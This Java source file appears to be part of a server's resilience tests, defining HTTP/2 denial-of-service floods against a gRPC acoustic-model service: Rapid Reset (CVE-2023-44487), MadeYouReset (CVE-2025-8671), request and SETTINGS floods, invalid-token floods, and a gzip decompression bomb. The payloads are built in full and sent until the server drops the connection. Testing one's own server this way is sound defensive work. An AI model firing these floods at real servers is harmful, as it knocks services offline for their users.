package org.stjem.acoustic.serving;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.util.zip.GZIPOutputStream;

/** What hostile clients do to a server over one connection, once and again. */
enum Flood {
  /** Calls that are begun and reset (CVE-2023-44487). */
  RAPID_RESET {
    @Override
    void once(RawFrames frames, int stream) throws IOException {
      frames.headers(stream, LIST_MODELS, 0);
      frames.number(RawFrames.RST_STREAM, stream, RawFrames.CANCEL);
    }
  },
  /** Calls that the server resets for a fault of the client (CVE-2025-8671). */
  MADE_YOU_RESET {
    @Override
    void once(RawFrames frames, int stream) throws IOException {
      frames.headers(stream, LIST_MODELS, 0);
      frames.number(RawFrames.WINDOW_UPDATE, stream, 0);
    }
  },
  /** Whole calls, one after the other without waiting for the answers. */
  REQUESTS {
    @Override
    void once(RawFrames frames, int stream) throws IOException {
      frames.headers(stream, LIST_MODELS, 0);
      frames.frame(RawFrames.DATA, RawFrames.END_STREAM, stream, RawFrames.EMPTY_MESSAGE);
    }
  },
  /** The same with a token that is not known. */
  WRONG_TOKEN {
    @Override
    void once(RawFrames frames, int stream) throws IOException {
      frames.headers(stream, LIST_MODELS, 0, "authorization", "Bearer 0123456789abcdef0");
      frames.frame(RawFrames.DATA, RawFrames.END_STREAM, stream, RawFrames.EMPTY_MESSAGE);
    }
  },
  /** Frames that carry nothing. */
  SETTINGS {
    @Override
    void once(RawFrames frames, int stream) throws IOException {
      frames.frame(RawFrames.SETTINGS, 0, 0, new byte[0]);
    }
  },
  /** Small messages that inflate to 4 MiB. */
  INFLATING {
    @Override
    void once(RawFrames frames, int stream) throws IOException {
      frames.headers(stream, LIST_MODELS, 0, "grpc-encoding", "gzip");
      frames.frame(RawFrames.DATA, RawFrames.END_STREAM, stream, BOMB);
    }
  };

  private static final String LIST_MODELS = "/stjem.v1.AcousticModelService/ListModels";
  private static final int BOMB_BYTES = (4 << 20) - 100;

  /** A compressed message that is a single field of zeros, unknown to the server. */
  private static final byte[] BOMB = bomb();

  /** What was sent last, and how often it is in there; guarded by this. */
  private byte[] made;

  private int madeTimes;

  private static byte[] bomb() {
    ByteArrayOutputStream message = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(message)) {
      // Field 1000, of bytes; then its length as a number of seven-bit groups.
      gzip.write(new byte[] {(byte) 0xC2, 0x3E});
      for (int rest = BOMB_BYTES; rest > 0; rest >>>= 7) {
        gzip.write(rest >= 0x80 ? rest & 0x7F | 0x80 : rest);
      }
      gzip.write(new byte[BOMB_BYTES]);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return ByteBuffer.allocate(5 + message.size())
        .put((byte) 1)
        .putInt(message.size())
        .put(message.toByteArray())
        .array();
  }

  /** Puts one piece of the attack, on a new stream, into the buffer. */
  abstract void once(RawFrames frames, int stream) throws IOException;

  /**
   * Attacks until the server closes the connection. What is sent is made beforehand, so that the
   * attacker is fast.
   *
   * @param times the attack is made
   */
  void run(RawHttp2Client client, int times) {
    try {
      client.frames().bytes(made(times));
      client.frames().flush();
    } catch (IOException e) {
      // The server has closed it.
    }
  }

  private synchronized byte[] made(int times) throws IOException {
    if (made == null || madeTimes != times) {
      ByteArrayOutputStream all = new ByteArrayOutputStream();
      RawFrames frames = new RawFrames(all);
      for (int i = 0; i < times; i++) {
        once(frames, 2 * i + 1);
      }
      frames.flush();
      made = all.toByteArray();
      madeTimes = times;
    }
    return made;
  }
}
